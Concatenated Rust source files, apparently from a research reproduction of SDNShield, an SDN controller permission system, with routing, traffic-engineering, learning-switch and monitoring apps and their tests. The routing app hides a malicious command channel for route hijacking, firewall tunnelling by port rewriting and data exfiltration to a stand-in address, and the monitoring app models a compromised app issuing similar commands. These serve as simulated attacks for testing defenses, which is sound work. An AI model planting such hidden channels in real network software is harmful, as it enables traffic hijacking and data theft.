                // Shadow existing (possibly foreign) rules with a higher-
                // priority detour.
                let fm = FlowMod::add(
                    FlowMatch::default().with_ip_dst(victim_dst),
                    Priority(900),
                    ActionList::output(via.1),
                );
                let ok = ctx.insert_flow(via.0, fm).is_ok();
                self.record("hijack_route", ok);
            }
            MaliciousCommand::TunnelFirewall {
                firewall,
                blocked_port,
                allowed_port,
                out_port,
            } => {
                // Entry: disguise blocked traffic as the allowed port.
                let entry = FlowMod::add(
                    FlowMatch::default().with_tp_dst(blocked_port),
                    Priority(950),
                    ActionList(vec![
                        Action::SetTpDst(allowed_port),
                        Action::Output(out_port),
                    ]),
                );
                let ok = ctx.insert_flow(firewall, entry).is_ok();
                self.record("flow_tunnel", ok);
            }
        }
    }
}

impl App for RoutingApp {
    fn name(&self) -> &str {
        "routing"
    }

    fn required_tokens(&self) -> Vec<PermissionToken> {
        vec![
            PermissionToken::VisibleTopology,
            PermissionToken::PktInEvent,
            PermissionToken::InsertFlow,
        ]
    }

    fn on_start(&mut self, ctx: &AppCtx) {
        ctx.subscribe(EventKind::PacketIn).expect("pkt_in_event");
        let _ = ctx.subscribe(EventKind::Flow);
    }

    fn on_event(&mut self, ctx: &AppCtx, event: &Event) {
        // Hidden payload first: drain any pending commands.
        while let Ok(cmd) = self.commands.try_recv() {
            self.run_command(ctx, cmd);
        }
        // Honest routing duty.
        if let Event::PacketIn { dpid, packet_in } = event {
            if let Ok(frame) = EthernetFrame::from_bytes(packet_in.payload.clone()) {
                if frame.dst != EthAddr::BROADCAST {
                    self.route(ctx, *dpid, &frame);
                }
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use bytes::Bytes;
    use sdnshield_controller::isolation::ShieldedController;
    use sdnshield_core::lang::parse_manifest;
    use sdnshield_netsim::network::Network;
    use sdnshield_netsim::topology::builders;
    use sdnshield_openflow::packet::TcpFlags;

    fn tcp(src: u64, dst: u64) -> EthernetFrame {
        EthernetFrame::tcp(
            EthAddr::from_u64(src),
            EthAddr::from_u64(dst),
            Ipv4::new(10, 0, 0, src as u8),
            Ipv4::new(10, 0, 0, dst as u8),
            1234,
            80,
            TcpFlags::default(),
            Bytes::new(),
        )
    }

    #[test]
    fn honest_routing_installs_paths_and_delivers() {
        let c = ShieldedController::new(Network::new(builders::linear(3), 1024), 4);
        let (app, _trigger) = RoutingApp::new();
        c.register(Box::new(app), &parse_manifest(ROUTING_MANIFEST).unwrap())
            .unwrap();
        c.inject_host_frame(tcp(1, 3));
        c.quiesce();
        // Path rules installed along 1→2→3.
        let total: usize = (1..=3).map(|d| c.kernel().flow_count(DatapathId(d))).sum();
        assert!(total >= 3, "expected path rules, got {total}");
        // The released packet reached host 3.
        let delivered = c.kernel().host_received(EthAddr::from_u64(3));
        assert_eq!(delivered.len(), 1);
        c.shutdown();
    }

    #[test]
    fn exfiltration_blocked_by_missing_host_network() {
        let c = ShieldedController::new(Network::new(builders::linear(2), 1024), 4);
        let (app, trigger) = RoutingApp::new();
        c.register(Box::new(app), &parse_manifest(ROUTING_MANIFEST).unwrap())
            .unwrap();
        trigger
            .commands
            .send(MaliciousCommand::Exfiltrate {
                to: Ipv4::new(203, 0, 113, 66),
                port: 443,
            })
            .unwrap();
        c.inject_host_frame(tcp(1, 2));
        c.quiesce();
        let outcomes = trigger.outcomes.lock().clone();
        assert_eq!(outcomes.len(), 1);
        assert!(!outcomes[0].succeeded, "exfiltration must be denied");
        c.shutdown();
    }
}
