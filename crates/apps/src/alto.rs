//! The ALTO-style traffic-engineering scenario — the paper's second
//! end-to-end evaluation workload (§IX-A): "the ALTO app provides real-time
//! topology and routing cost information to upper-layer apps. We write a
//! simple traffic engineering (TE) app that listens to the ALTO app events
//! and reacts with flow-mods that change the routing paths."
//!
//! The chain exercises four mediation points per stimulus: the topology
//! notification to the ALTO app, the ALTO app's topology read, the cost
//! publication to the TE app, and the TE app's rule issuance.

use bytes::Bytes;

use sdnshield_controller::app::{App, AppCtx};
use sdnshield_controller::events::Event;
use sdnshield_core::api::EventKind;
use sdnshield_core::token::PermissionToken;
use sdnshield_openflow::actions::ActionList;
use sdnshield_openflow::flow_match::FlowMatch;
use sdnshield_openflow::messages::FlowMod;
use sdnshield_openflow::types::{DatapathId, Ipv4, Priority};

/// Topic on which the ALTO service publishes cost maps.
pub const ALTO_TOPIC: &str = "alto-costs";

/// Manifest for the ALTO cost service.
pub const ALTO_MANIFEST: &str = "\
PERM topology_event
PERM visible_topology
PERM read_statistics LIMITING PORT_LEVEL
";

/// Manifest for the TE app.
pub const TE_MANIFEST: &str = "\
PERM visible_topology
PERM insert_flow
PERM delete_flow LIMITING OWN_FLOWS
";

/// A serialized cost map: `a-b=cost;…` lines over visible links.
///
/// Plain text keeps the wire format inspectable in tests — the paper's app
/// publishes into OpenDaylight's YANG store, which is equally structural.
pub fn encode_costs(costs: &[(DatapathId, DatapathId, u32)]) -> Bytes {
    let mut s = String::new();
    for (a, b, c) in costs {
        s.push_str(&format!("{}-{}={};", a.0, b.0, c));
    }
    Bytes::from(s)
}

/// Parses a cost map produced by [`encode_costs`].
pub fn decode_costs(data: &Bytes) -> Vec<(DatapathId, DatapathId, u32)> {
    let Ok(text) = std::str::from_utf8(data) else {
        return Vec::new();
    };
    text.split(';')
        .filter(|part| !part.is_empty())
        .filter_map(|part| {
            let (link, cost) = part.split_once('=')?;
            let (a, b) = link.split_once('-')?;
            Some((
                DatapathId(a.parse().ok()?),
                DatapathId(b.parse().ok()?),
                cost.parse().ok()?,
            ))
        })
        .collect()
}

/// The ALTO cost service: on every topology change it reads the (filtered)
/// topology and publishes a fresh cost map.
#[derive(Debug, Default)]
pub struct AltoService {
    /// Updates published (tests/benches).
    published: u64,
    /// Monotonic epoch mixed into costs so every publication differs.
    epoch: u32,
}

impl AltoService {
    /// A fresh service.
    pub fn new() -> Self {
        Self::default()
    }

    /// Number of cost maps published.
    pub fn published(&self) -> u64 {
        self.published
    }
}

impl App for AltoService {
    fn name(&self) -> &str {
        "alto"
    }

    fn required_tokens(&self) -> Vec<PermissionToken> {
        vec![
            PermissionToken::TopologyEvent,
            PermissionToken::VisibleTopology,
        ]
    }

    fn on_start(&mut self, ctx: &AppCtx) {
        ctx.subscribe(EventKind::Topology)
            .expect("topology_event granted");
    }

    fn on_event(&mut self, ctx: &AppCtx, event: &Event) {
        if !matches!(event, Event::TopologyChanged { .. }) {
            return;
        }
        let Ok(view) = ctx.read_topology() else {
            return;
        };
        self.epoch = self.epoch.wrapping_add(1);
        let costs: Vec<_> = view
            .links
            .iter()
            .enumerate()
            .map(|(i, (a, b))| (*a, *b, 1 + ((i as u32 + self.epoch) % 7)))
            .collect();
        if ctx.publish(ALTO_TOPIC, encode_costs(&costs)).is_ok() {
            self.published += 1;
        }
    }
}

/// The TE app: re-routes a monitored destination prefix along the cheapest
/// path whenever the ALTO service publishes new costs.
#[derive(Debug)]
pub struct TrafficEngApp {
    /// The destination prefix being engineered.
    pub monitored_dst: Ipv4,
    /// Prefix length.
    pub prefix_len: u8,
    /// Path endpoints: route from this switch…
    pub from: DatapathId,
    /// …to this switch.
    pub to: DatapathId,
    /// Rules issued so far.
    rules_issued: u64,
}

impl TrafficEngApp {
    /// A TE app steering `dst/prefix_len` from `from` to `to`.
    pub fn new(dst: Ipv4, prefix_len: u8, from: DatapathId, to: DatapathId) -> Self {
        TrafficEngApp {
            monitored_dst: dst,
            prefix_len,
            from,
            to,
            rules_issued: 0,
        }
    }

    /// Rules issued so far.
    pub fn rules_issued(&self) -> u64 {
        self.rules_issued
    }
}

impl App for TrafficEngApp {
    fn name(&self) -> &str {
        "traffic-eng"
    }

    fn required_tokens(&self) -> Vec<PermissionToken> {
        vec![
            PermissionToken::VisibleTopology,
            PermissionToken::InsertFlow,
        ]
    }

    fn on_start(&mut self, ctx: &AppCtx) {
        ctx.subscribe_topic(ALTO_TOPIC).expect("topic subscribe");
    }

    fn on_event(&mut self, ctx: &AppCtx, event: &Event) {
        let Event::Custom { topic, data } = event else {
            return;
        };
        if topic != ALTO_TOPIC {
            return;
        }
        let costs = decode_costs(data);
        if costs.is_empty() {
            return;
        }
        let Ok(view) = ctx.read_topology() else {
            return;
        };
        // Cheapest path under the published costs (Dijkstra over the view).
        let Some(path) = cheapest_path(&view.links, &costs, self.from, self.to) else {
            return;
        };
        // Install a rule per hop steering the monitored prefix.
        let m = FlowMatch {
            ip_dst: Some(sdnshield_openflow::flow_match::MaskedIpv4::prefix(
                self.monitored_dst,
                self.prefix_len,
            )),
            ..FlowMatch::default()
        };
        for window in path.windows(2) {
            let (here, next) = (window[0], window[1]);
            let Some(port) = view.port_toward(here, next) else {
                continue;
            };
            let fm = FlowMod::add(m.clone(), Priority(200), ActionList::output(port));
            if ctx.insert_flow(here, fm).is_ok() {
                self.rules_issued += 1;
            }
        }
    }
}

/// Dijkstra over an undirected link list with published costs (unlisted
/// links cost 1).
pub fn cheapest_path(
    links: &[(DatapathId, DatapathId)],
    costs: &[(DatapathId, DatapathId, u32)],
    from: DatapathId,
    to: DatapathId,
) -> Option<Vec<DatapathId>> {
    use std::collections::{BTreeMap, BinaryHeap};
    let cost_of = |a: DatapathId, b: DatapathId| -> u32 {
        costs
            .iter()
            .find(|(x, y, _)| (*x == a && *y == b) || (*x == b && *y == a))
            .map(|(_, _, c)| *c)
            .unwrap_or(1)
    };
    let mut adj: BTreeMap<DatapathId, Vec<DatapathId>> = BTreeMap::new();
    for (a, b) in links {
        adj.entry(*a).or_default().push(*b);
        adj.entry(*b).or_default().push(*a);
    }
    let mut dist: BTreeMap<DatapathId, u64> = BTreeMap::new();
    let mut prev: BTreeMap<DatapathId, DatapathId> = BTreeMap::new();
    let mut heap = BinaryHeap::new();
    dist.insert(from, 0);
    heap.push(std::cmp::Reverse((0u64, from)));
    while let Some(std::cmp::Reverse((d, cur))) = heap.pop() {
        if cur == to {
            let mut path = vec![to];
            let mut c = to;
            while c != from {
                c = prev[&c];
                path.push(c);
            }
            path.reverse();
            return Some(path);
        }
        if d > *dist.get(&cur).unwrap_or(&u64::MAX) {
            continue;
        }
        for next in adj.get(&cur).into_iter().flatten() {
            let nd = d + cost_of(cur, *next) as u64;
            if nd < *dist.get(next).unwrap_or(&u64::MAX) {
                dist.insert(*next, nd);
                prev.insert(*next, cur);
                heap.push(std::cmp::Reverse((nd, *next)));
            }
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;
    use sdnshield_controller::isolation::ShieldedController;
    use sdnshield_core::lang::parse_manifest;
    use sdnshield_netsim::network::Network;
    use sdnshield_netsim::topology::builders;

    #[test]
    fn cost_map_roundtrip() {
        let costs = vec![
            (DatapathId(1), DatapathId(2), 3),
            (DatapathId(2), DatapathId(3), 7),
        ];
        assert_eq!(decode_costs(&encode_costs(&costs)), costs);
        assert!(decode_costs(&Bytes::from_static(b"garbage")).is_empty());
        assert!(decode_costs(&Bytes::from_static(b"\xff\xfe")).is_empty());
    }

    #[test]
    fn cheapest_path_prefers_low_cost() {
        // Triangle 1-2, 2-3, 1-3; direct 1-3 is expensive.
        let links = vec![
            (DatapathId(1), DatapathId(2)),
            (DatapathId(2), DatapathId(3)),
            (DatapathId(1), DatapathId(3)),
        ];
        let costs = vec![(DatapathId(1), DatapathId(3), 100)];
        let p = cheapest_path(&links, &costs, DatapathId(1), DatapathId(3)).unwrap();
        assert_eq!(p, vec![DatapathId(1), DatapathId(2), DatapathId(3)]);
        assert!(cheapest_path(&links, &costs, DatapathId(1), DatapathId(99)).is_none());
    }

    #[test]
    fn end_to_end_chain_issues_rules() {
        let c = ShieldedController::new(Network::new(builders::linear(3), 1024), 4);
        c.register(
            Box::new(AltoService::new()),
            &parse_manifest(ALTO_MANIFEST).unwrap(),
        )
        .unwrap();
        c.register(
            Box::new(TrafficEngApp::new(
                Ipv4::new(10, 0, 0, 0),
                8,
                DatapathId(1),
                DatapathId(3),
            )),
            &parse_manifest(TE_MANIFEST).unwrap(),
        )
        .unwrap();
        c.deliver_topology_change("link cost update");
        // The TE app installed rules along 1→2→3 (two non-terminal hops plus
        // possibly the egress); at least the first two switches got one.
        let total: usize = (1..=3).map(|d| c.kernel().flow_count(DatapathId(d))).sum();
        assert!(total >= 2, "expected TE rules, got {total}");
        c.shutdown();
    }

    #[test]
    fn te_app_without_insert_flow_is_rejected_at_load() {
        let c = ShieldedController::new(Network::new(builders::linear(2), 64), 2);
        let err = c.register(
            Box::new(TrafficEngApp::new(
                Ipv4::new(10, 0, 0, 0),
                8,
                DatapathId(1),
                DatapathId(2),
            )),
            &parse_manifest("PERM visible_topology").unwrap(),
        );
        assert!(err.is_err());
        c.shutdown();
    }
}
