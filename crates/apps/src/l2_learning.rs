//! The L2 learning switch — the paper's first end-to-end evaluation
//! scenario (§IX-A): "learns host position and generates switching rules by
//! listening to OpenFlow packet-ins containing ARP packets".

use std::collections::HashMap;

use sdnshield_controller::api::FlowOp;
use sdnshield_controller::app::{App, AppCtx};
use sdnshield_controller::events::Event;
use sdnshield_core::api::EventKind;
use sdnshield_core::token::PermissionToken;
use sdnshield_openflow::actions::ActionList;
use sdnshield_openflow::flow_match::FlowMatch;
use sdnshield_openflow::messages::{FlowMod, PacketIn, PacketOut};
use sdnshield_openflow::packet::EthernetFrame;
use sdnshield_openflow::types::{BufferId, DatapathId, EthAddr, PortNo, Priority};

/// The canonical permission manifest for the learning switch, in the
/// SDNShield permission language.
pub const L2_MANIFEST: &str = "\
PERM pkt_in_event
PERM read_payload
PERM insert_flow
PERM send_pkt_out
";

/// A per-switch MAC learning table plus reactive rule installation.
#[derive(Debug, Default)]
pub struct L2LearningSwitch {
    /// (switch, MAC) → port where the MAC was last seen.
    mac_table: HashMap<(DatapathId, EthAddr), PortNo>,
    /// Rules installed (for tests/benches).
    rules_installed: u64,
    /// Packets flooded.
    floods: u64,
}

impl L2LearningSwitch {
    /// A fresh learning switch.
    pub fn new() -> Self {
        Self::default()
    }

    /// Number of rules installed so far.
    pub fn rules_installed(&self) -> u64 {
        self.rules_installed
    }

    /// Number of learned (switch, MAC) locations.
    pub fn learned(&self) -> usize {
        self.mac_table.len()
    }

    /// Learns the source and decides the reaction to one packet-in: the
    /// forwarding rule to install (known unicast destination only) plus the
    /// packet-out that releases the packet. `None` for unparseable frames.
    fn react(
        &mut self,
        dpid: DatapathId,
        packet_in: &PacketIn,
    ) -> Option<(Option<FlowMod>, PacketOut)> {
        let frame = EthernetFrame::from_bytes(packet_in.payload.clone()).ok()?;
        // Learn the source location.
        self.mac_table.insert((dpid, frame.src), packet_in.in_port);
        // Known destination: install a forwarding rule and release the
        // packet; unknown: flood.
        let out_port = if frame.dst.is_multicast() {
            None
        } else {
            self.mac_table.get(&(dpid, frame.dst)).copied()
        };
        Some(match out_port {
            Some(port) => {
                let fm = FlowMod::add(
                    FlowMatch::default().with_eth_dst(frame.dst),
                    Priority(100),
                    ActionList::output(port),
                )
                .with_idle_timeout(60);
                (
                    Some(fm),
                    PacketOut {
                        buffer_id: BufferId::NO_BUFFER,
                        in_port: packet_in.in_port,
                        actions: ActionList::output(port),
                        payload: packet_in.payload.clone(),
                    },
                )
            }
            None => {
                self.floods += 1;
                (
                    None,
                    PacketOut {
                        buffer_id: BufferId::NO_BUFFER,
                        in_port: packet_in.in_port,
                        actions: ActionList::output(PortNo::FLOOD),
                        payload: packet_in.payload.clone(),
                    },
                )
            }
        })
    }
}

impl App for L2LearningSwitch {
    fn name(&self) -> &str {
        "l2-learning"
    }

    fn required_tokens(&self) -> Vec<PermissionToken> {
        vec![
            PermissionToken::PktInEvent,
            PermissionToken::ReadPayload,
            PermissionToken::InsertFlow,
            PermissionToken::SendPktOut,
        ]
    }

    fn on_start(&mut self, ctx: &AppCtx) {
        ctx.subscribe(EventKind::PacketIn)
            .expect("pkt_in_event granted");
    }

    fn on_event(&mut self, ctx: &AppCtx, event: &Event) {
        let Event::PacketIn { dpid, packet_in } = event else {
            return;
        };
        let Some((flow_mod, packet_out)) = self.react(*dpid, packet_in) else {
            return;
        };
        if let Some(fm) = flow_mod {
            if ctx.insert_flow(*dpid, fm).is_ok() {
                self.rules_installed += 1;
            }
        }
        let _ = ctx.send_packet_out(*dpid, packet_out);
    }

    /// Vectored delivery: one wake-up carries a burst of packet-ins; the
    /// forwarding rules for the whole burst are returned as one batch (the
    /// runtime submits it through a single mediated `submit_batch` call)
    /// and the packet-outs releasing each packet go out, in arrival order,
    /// through one vectored `send_packet_outs` crossing.
    fn on_events(&mut self, ctx: &AppCtx, events: &[&Event]) -> Vec<FlowOp> {
        let mut ops = Vec::new();
        let mut outs = Vec::new();
        for event in events {
            let Event::PacketIn { dpid, packet_in } = event else {
                continue;
            };
            let Some((flow_mod, packet_out)) = self.react(*dpid, packet_in) else {
                continue;
            };
            if let Some(flow_mod) = flow_mod {
                // Counted at emission: the runtime submits the batch as this
                // app, and L2's manifest grants insert_flow unconditionally.
                self.rules_installed += 1;
                ops.push(FlowOp {
                    dpid: *dpid,
                    flow_mod,
                });
            }
            outs.push((*dpid, packet_out));
        }
        if !outs.is_empty() {
            let _ = ctx.send_packet_outs(outs);
        }
        ops
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use sdnshield_controller::isolation::ShieldedController;
    use sdnshield_controller::monolithic::MonolithicController;
    use sdnshield_core::lang::parse_manifest;
    use sdnshield_netsim::network::Network;
    use sdnshield_netsim::topology::builders;
    use sdnshield_openflow::types::Ipv4;

    fn arp_request(src: u64, target_ip: Ipv4) -> EthernetFrame {
        EthernetFrame::arp_request(
            EthAddr::from_u64(src),
            Ipv4::new(10, 0, 0, src as u8),
            target_ip,
        )
    }

    /// A unicast ARP reply from `src` to `dst` — the frame whose known
    /// destination triggers rule installation.
    fn arp_reply(src: u64, dst: u64) -> EthernetFrame {
        use sdnshield_openflow::packet::{ArpOp, ArpPacket, EthPayload};
        EthernetFrame {
            src: EthAddr::from_u64(src),
            dst: EthAddr::from_u64(dst),
            vlan: None,
            payload: EthPayload::Arp(ArpPacket {
                op: ArpOp::Reply,
                sender_mac: EthAddr::from_u64(src),
                sender_ip: Ipv4::new(10, 0, 0, src as u8),
                target_mac: EthAddr::from_u64(dst),
                target_ip: Ipv4::new(10, 0, 0, dst as u8),
            }),
        }
    }

    #[test]
    fn learns_and_installs_on_shielded_controller() {
        let c = ShieldedController::new(Network::new(builders::linear(2), 1024), 4);
        c.register(
            Box::new(L2LearningSwitch::new()),
            &parse_manifest(L2_MANIFEST).unwrap(),
        )
        .unwrap();
        // Host 1 ARPs for host 2: broadcast → flooded; the flood traverses
        // s2, whose packet-in teaches the app h1's location at s2.
        c.inject_host_frame(arp_request(1, Ipv4::new(10, 0, 0, 2)));
        c.quiesce();
        // Host 2's unicast reply: dst h1 is known at s2 → rule installed.
        c.inject_host_frame(arp_reply(2, 1));
        c.quiesce();
        let installed = c.kernel().flow_count(DatapathId(2));
        assert!(
            installed >= 1,
            "expected a learned rule on s2, got {installed}"
        );
        c.shutdown();
    }

    #[test]
    fn identical_behavior_on_monolithic_controller() {
        let c = MonolithicController::new(Network::new(builders::linear(2), 1024));
        c.register(
            Box::new(L2LearningSwitch::new()),
            &parse_manifest(L2_MANIFEST).unwrap(),
        );
        c.inject_host_frame(arp_request(1, Ipv4::new(10, 0, 0, 2)));
        c.inject_host_frame(arp_reply(2, 1));
        assert!(c.kernel().flow_count(DatapathId(2)) >= 1);
    }

    #[test]
    fn denied_without_insert_flow() {
        let c = ShieldedController::new(Network::new(builders::linear(2), 1024), 2);
        // Loading-time check refuses the under-privileged manifest.
        let err = c
            .register(
                Box::new(L2LearningSwitch::new()),
                &parse_manifest("PERM pkt_in_event\nPERM read_payload\nPERM send_pkt_out").unwrap(),
            )
            .unwrap_err();
        assert!(matches!(
            err,
            sdnshield_controller::isolation::RegisterError::MissingTokens(ref ts)
                if ts == &vec![PermissionToken::InsertFlow]
        ));
        c.shutdown();
    }
}
