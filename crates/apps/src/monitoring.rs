//! Scenario 1 (paper §VII): a *vulnerable monitoring app*.
//!
//! The app supervises network usage for a tenant and accepts web requests
//! from the administrator. It "bears a vulnerability that allows arbitrary
//! code execution": we model the vulnerability as a command queue — anything
//! pushed into it executes with the app's full privileges, exactly like an
//! attacker who has taken over the app process. SDNShield's permissions are
//! therefore the only remaining line of defense, which is the point of the
//! scenario.

use std::sync::Arc;

use bytes::Bytes;
use crossbeam::channel::{unbounded, Receiver, Sender};
use parking_lot::Mutex;

use sdnshield_controller::app::{App, AppCtx};
use sdnshield_controller::events::Event;
use sdnshield_core::api::EventKind;
use sdnshield_core::token::PermissionToken;
use sdnshield_openflow::flow_match::{FlowMatch, MaskedIpv4};
use sdnshield_openflow::messages::{FlowMod, StatsRequest};
use sdnshield_openflow::types::{DatapathId, Ipv4, PortNo, Priority};

/// The §VII scenario-1 manifest as distributed by the developer, with the
/// `LocalTopo` and `AdminRange` stubs left for the administrator.
pub const MONITORING_MANIFEST: &str = "\
PERM visible_topology LIMITING LocalTopo
PERM read_statistics
PERM network_access LIMITING AdminRange
PERM insert_flow
";

/// The §VII scenario-1 administrator policy: stub completions plus the
/// mutual exclusion that ends up truncating `insert_flow`.
pub const MONITORING_POLICY: &str = "\
LET LocalTopo = { SWITCH 1,2 LINK 1-2 }
LET AdminRange = { IP_DST 10.1.0.0 MASK 255.255.0.0 }
ASSERT EITHER { PERM network_access } OR { PERM insert_flow }
";

/// A command delivered through the app's (vulnerable) web interface.
#[derive(Debug, Clone)]
pub struct WebRequest {
    /// Claimed source of the request.
    pub source_ip: Ipv4,
    /// What the (possibly malicious) requester wants done.
    pub command: WebCommand,
}

/// Commands the compromised app can be driven to attempt.
#[derive(Debug, Clone)]
pub enum WebCommand {
    /// Normal duty: report statistics to the admin collector.
    ReportStats {
        /// Collector address.
        to: Ipv4,
        /// Collector port.
        port: u16,
    },
    /// Class 2: exfiltrate topology+stats to an arbitrary destination.
    Exfiltrate {
        /// Attacker address.
        to: Ipv4,
        /// Attacker port.
        port: u16,
    },
    /// Class 1: inject a raw packet into the data plane.
    InjectPacket {
        /// Target switch.
        dpid: DatapathId,
        /// Egress port.
        port: PortNo,
        /// Raw frame.
        payload: Bytes,
    },
    /// Class 3: install a forwarding rule.
    AddRule {
        /// Target switch.
        dpid: DatapathId,
        /// Destination the rule hijacks.
        dst: Ipv4,
        /// Egress port.
        port: PortNo,
    },
}

/// The result of one attempted command, observable by tests.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct CommandOutcome {
    /// A short label of the command.
    pub command: String,
    /// Did the controller let it through?
    pub succeeded: bool,
}

/// Handle pair for driving and observing the app from outside (the
/// "attacker's botnet console" in tests).
#[derive(Clone)]
pub struct WebPort {
    /// Queue commands into the app.
    pub requests: Sender<WebRequest>,
    /// Outcomes, in execution order.
    pub outcomes: Arc<Mutex<Vec<CommandOutcome>>>,
}

/// The vulnerable monitoring app.
pub struct MonitoringApp {
    /// Admin subnet the app itself checks inbound requests against (the
    /// paper's "first step" defense; bypassed by spoofing).
    admin_range: MaskedIpv4,
    requests: Receiver<WebRequest>,
    outcomes: Arc<Mutex<Vec<CommandOutcome>>>,
}

impl MonitoringApp {
    /// Creates the app plus its web-interface handle. `admin_range` is the
    /// subnet the app believes administrators come from.
    pub fn new(admin_range: MaskedIpv4) -> (Self, WebPort) {
        let (tx, rx) = unbounded();
        let outcomes = Arc::new(Mutex::new(Vec::new()));
        (
            MonitoringApp {
                admin_range,
                requests: rx,
                outcomes: Arc::clone(&outcomes),
            },
            WebPort {
                requests: tx,
                outcomes,
            },
        )
    }

    fn record(&self, command: &str, succeeded: bool) {
        self.outcomes.lock().push(CommandOutcome {
            command: command.to_owned(),
            succeeded,
        });
    }

    fn run_command(&self, ctx: &AppCtx, req: WebRequest) {
        // First line of defense: the app's own source-IP check.
        if !self.admin_range.matches(req.source_ip) {
            self.record("rejected_at_web_interface", false);
            return;
        }
        match req.command {
            WebCommand::ReportStats { to, port } => {
                let ok = self.try_report(ctx, to, port);
                self.record("report_stats", ok);
            }
            WebCommand::Exfiltrate { to, port } => {
                let ok = self.try_report(ctx, to, port);
                self.record("exfiltrate", ok);
            }
            WebCommand::InjectPacket {
                dpid,
                port,
                payload,
            } => {
                let ok = ctx.packet_out_port(dpid, port, payload).is_ok();
                self.record("inject_packet", ok);
            }
            WebCommand::AddRule { dpid, dst, port } => {
                let fm = FlowMod::add(
                    FlowMatch::default().with_ip_dst(dst),
                    Priority(500),
                    sdnshield_openflow::actions::ActionList::output(port),
                );
                let ok = ctx.insert_flow(dpid, fm).is_ok();
                self.record("add_rule", ok);
            }
        }
    }

    /// Collects whatever is visible and ships it to `(to, port)`.
    fn try_report(&self, ctx: &AppCtx, to: Ipv4, port: u16) -> bool {
        let mut report = String::new();
        if let Ok(view) = ctx.read_topology() {
            report.push_str(&format!(
                "switches={} links={};",
                view.switches.len(),
                view.links.len()
            ));
        }
        for s in 1..=4u64 {
            if let Ok(stats) = ctx.read_statistics(DatapathId(s), StatsRequest::Table) {
                report.push_str(&format!("s{s}={stats:?};"));
            }
        }
        let Ok(conn) = ctx.host_connect(to, port) else {
            return false;
        };
        ctx.host_send(conn, Bytes::from(report)).is_ok()
    }
}

impl App for MonitoringApp {
    fn name(&self) -> &str {
        "monitoring"
    }

    fn required_tokens(&self) -> Vec<PermissionToken> {
        vec![
            PermissionToken::VisibleTopology,
            PermissionToken::ReadStatistics,
        ]
    }

    fn on_start(&mut self, ctx: &AppCtx) {
        // The app wakes on the "web" topic (an inbound web request) to poll
        // its request queue; topology events also wake it when that event
        // token happens to be granted.
        let _ = ctx.subscribe(EventKind::Topology);
        let _ = ctx.subscribe_topic("web");
    }

    fn on_event(&mut self, ctx: &AppCtx, _event: &Event) {
        while let Ok(req) = self.requests.try_recv() {
            self.run_command(ctx, req);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use sdnshield_controller::isolation::ShieldedController;
    use sdnshield_core::lang::parse_manifest;
    use sdnshield_core::policy::parse_policy;
    use sdnshield_core::reconcile::Reconciler;
    use sdnshield_netsim::network::Network;
    use sdnshield_netsim::topology::builders;

    /// Runs the full §VII scenario-1 pipeline: manifest + policy →
    /// reconciliation → enforcement.
    fn reconciled_manifest() -> sdnshield_core::perm::PermissionSet {
        let mut rec = Reconciler::new(parse_policy(MONITORING_POLICY).unwrap());
        rec.register_app("monitoring", parse_manifest(MONITORING_MANIFEST).unwrap());
        let report = rec.reconcile("monitoring").unwrap();
        assert!(!report.is_clean(), "insert_flow must be truncated");
        report.reconciled
    }

    fn driver(c: &ShieldedController) {
        // An inbound web request wakes the app's queue drain.
        c.publish_topic("web", bytes::Bytes::new());
        c.quiesce();
    }

    #[test]
    fn normal_duty_allowed() {
        let c = ShieldedController::new(Network::new(builders::linear(2), 1024), 4);
        let (app, web) = MonitoringApp::new(MaskedIpv4::prefix(Ipv4::new(10, 1, 0, 0), 16));
        c.register(Box::new(app), &reconciled_manifest()).unwrap();
        web.requests
            .send(WebRequest {
                source_ip: Ipv4::new(10, 1, 0, 50),
                command: WebCommand::ReportStats {
                    to: Ipv4::new(10, 1, 0, 9),
                    port: 4000,
                },
            })
            .unwrap();
        driver(&c);
        let outcomes = web.outcomes.lock().clone();
        assert_eq!(outcomes.len(), 1);
        assert!(
            outcomes[0].succeeded,
            "admin reporting must work: {outcomes:?}"
        );
        c.shutdown();
    }

    #[test]
    fn web_interface_blocks_non_admin_sources() {
        let c = ShieldedController::new(Network::new(builders::linear(2), 1024), 4);
        let (app, web) = MonitoringApp::new(MaskedIpv4::prefix(Ipv4::new(10, 1, 0, 0), 16));
        c.register(Box::new(app), &reconciled_manifest()).unwrap();
        web.requests
            .send(WebRequest {
                source_ip: Ipv4::new(203, 0, 113, 66), // the attacker
                command: WebCommand::Exfiltrate {
                    to: Ipv4::new(203, 0, 113, 66),
                    port: 8080,
                },
            })
            .unwrap();
        driver(&c);
        let outcomes = web.outcomes.lock().clone();
        assert_eq!(outcomes[0].command, "rejected_at_web_interface");
        c.shutdown();
    }
}
