//! Controller applications for the SDNShield reproduction: the paper's two
//! evaluation workloads (§IX-A), its two §VII case-study apps, and the four
//! proof-of-concept attack apps of §IX-B1.
//!
//! Every app is written once against [`sdnshield_controller::app::App`] and
//! runs unmodified on both the shielded and the monolithic controller.
#![warn(missing_docs)]
#![forbid(unsafe_code)]

pub mod alto;
pub mod attacks;
pub mod l2_learning;
pub mod monitoring;
pub mod routing;

pub use alto::{AltoService, TrafficEngApp, ALTO_MANIFEST, TE_MANIFEST};
pub use attacks::{
    CrasherApp, CrasherHandle, CrasherStats, FlowTunnelApp, InfoLeakApp, RouteHijackApp,
    SniffInjectApp,
};
pub use l2_learning::{L2LearningSwitch, L2_MANIFEST};
pub use monitoring::{MonitoringApp, MONITORING_MANIFEST, MONITORING_POLICY};
pub use routing::{RoutingApp, ROUTING_MANIFEST};
