//! Network topology: the graph of switches, links and hosts.
//!
//! The controller kernel exposes (a view of) this graph to apps; SDNShield's
//! topology filters restrict that view to subsets or virtual aggregations.

use std::collections::{BTreeMap, BTreeSet, BinaryHeap, VecDeque};
use std::fmt;

use sdnshield_openflow::types::{DatapathId, EthAddr, Ipv4, PortNo};

/// A host attached to a switch port.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Host {
    /// The host's MAC address (unique per host).
    pub mac: EthAddr,
    /// The host's IPv4 address.
    pub ip: Ipv4,
    /// The switch the host attaches to.
    pub switch: DatapathId,
    /// The port on that switch.
    pub port: PortNo,
}

/// A unidirectional switch-to-switch link.
///
/// Bidirectional connectivity is represented as two `Link`s, one per
/// direction, which keeps port bookkeeping simple.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Link {
    /// Source switch.
    pub src: DatapathId,
